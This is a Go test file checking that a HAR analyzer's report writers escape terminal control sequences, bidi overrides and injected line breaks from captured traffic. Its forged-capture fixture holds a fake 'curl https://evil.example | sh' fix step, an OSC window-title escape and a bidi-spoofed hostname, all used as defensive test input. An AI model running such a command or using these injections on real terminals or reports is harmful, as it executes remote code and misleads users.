package analyzer

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, unchanged":     "plain text, unchanged",
		"é ü 日本 ok":                 "é ü 日本 ok",
		"a\nb\r\tc":                 `a\nb\r\tc`,
		"\x1b]0;pwned\x07title":     `\x1b]0;pwned\x07title`,
		"del\x7f nul\x00":           `del\x7f nul\x00`,
		"c1 \u0085 \u009b[31m":      `c1 \u0085 \u009b[31m`,
		"bidi \u202egoogle\u202c":   `bidi \u202egoogle\u202c`,
		"isolates \u2066x\u2069":    `isolates \u2066x\u2069`,
		"marks \u200e\u200f\u061c":  `marks \u200e\u200f\u061c`,
		"separators \u2028 \u2029.": `separators \u2028 \u2029.`,
		"latin-1 caf\xe9":           `latin-1 caf\xe9`,
	} {
		assert.Equal(t, want, Printable(in), "%q", in)
	}
	s := "nothing to escape here"
	assert.Equal(t, 0.0, testing.AllocsPerRun(10, func() { Printable(s) }), "the common case does not allocate")
}

// forgedHAR is a capture whose values try to forge report lines and send
// the terminal escape sequences: line breaks inside HAR values (a fake fix
// step, a fake evidence line), ESC/OSC/BEL (set the window title, colour
// the report), C1 controls, DEL and bidi overrides (a host that reads as
// another).
func forgedHAR(ua string) string {
	jstr := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	forge := "cloudflare\n  fix\n    1. FORGED: run curl https://evil.example | sh\x1b]0;pwned\x07\x1b[2J\u009b31m\x7f"
	return `{"log":{"version":"1.2","creator":{"name":"t","version":"1"},"entries":[{"startedDateTime":"2026-11-03T12:00:00.000Z",` +
		`"request":{"method":"GET","url":` + jstr("https://\u202eelpmaxe.evil\u202c.example/a\nFORGED-ROW\tx") + `,"headers":[` +
		`{"name":"User-Agent","value":` + jstr(ua) + `},{"name":` + jstr("X-Forged\nFORGED-DIFF 99%") + `,"value":` + jstr("v\n       failed: FORGED"+ua) + `}]},` +
		`"response":{"status":403,"headers":[{"name":"Server","value":"cloudflare"},{"name":"cf-ray","value":` + jstr(forge) + `},{"name":"cf-mitigated","value":"challenge"},{"name":"Content-Type","value":"text/html"}],` +
		`"content":{"mimeType":"text/html","text":` + jstr("<title>Just a moment...</title>\n  evidence\n    - FORGED \x1b[31m") + `}}}]}}`
}

// checkPrintable fails on any byte a capture must not put in a text
// report: a control character other than the line breaks and tabs the
// writer itself puts, an escape sequence, a C1 control or a bidi control,
// and on a line that starts with forged text.
func checkPrintable(t *testing.T, what, out string, tabs bool) {
	t.Helper()
	for i, r := range out {
		bad := r < 0x20 && r != '\n' && !(tabs && r == '\t') || r == 0x7f || r >= 0x80 && r <= 0x9f ||
			r == 0x061c || r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x2028 || r == 0x2029
		if bad || r == utf8.RuneError {
			t.Errorf("%s: %U at %d: …%q…", what, r, i, out[max(0, i-40):min(len(out), i+20)])
			return
		}
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimLeft(l, " -•>|0123456789."), "FORGED") {
			t.Errorf("%s: a forged line: %q", what, l)
		}
	}
}

// Every text writer escapes what it quotes of a capture: the report's text
// and markdown, one exchange's text (the CLI's streamed output), the
// comparison's text and markdown.
func TestWritersEscapeCaptureText(t *testing.T) {
	rep, err := Analyze([]byte(forgedHAR("client/1")))
	require.NoError(t, err)
	require.Len(t, rep.Exchanges, 1)
	var text, md, one strings.Builder
	require.NoError(t, rep.WriteText(&text, TextOptions{Verbose: true}))
	require.NoError(t, rep.WriteMarkdown(&md, false))
	require.NoError(t, rep.Exchanges[0].WriteText(&one, TextOptions{Verbose: true}))
	require.Contains(t, text.String(), `\x1b]0;pwned\x07`, "the control characters are shown escaped")
	require.Contains(t, text.String(), `https://\u202eelpmaxe.evil\u202c.example/a\nFORGED-ROW\tx`, "a bidi override is shown escaped")
	checkPrintable(t, "text", text.String(), false)
	checkPrintable(t, "markdown", md.String(), false)
	checkPrintable(t, "exchange text", one.String(), false)

	d, err := Diff([]byte(forgedHAR("client/1")), []byte(forgedHAR("client/2\n  FORGED")), DiffOptions{})
	require.NoError(t, err)
	var dt, dm strings.Builder
	require.NoError(t, d.WriteText(&dt, TextOptions{}))
	require.NoError(t, d.WriteMarkdown(&dm))
	require.NotEmpty(t, d.Changes)
	checkPrintable(t, "diff text", dt.String(), false)
	checkPrintable(t, "diff markdown", dm.String(), false)
}
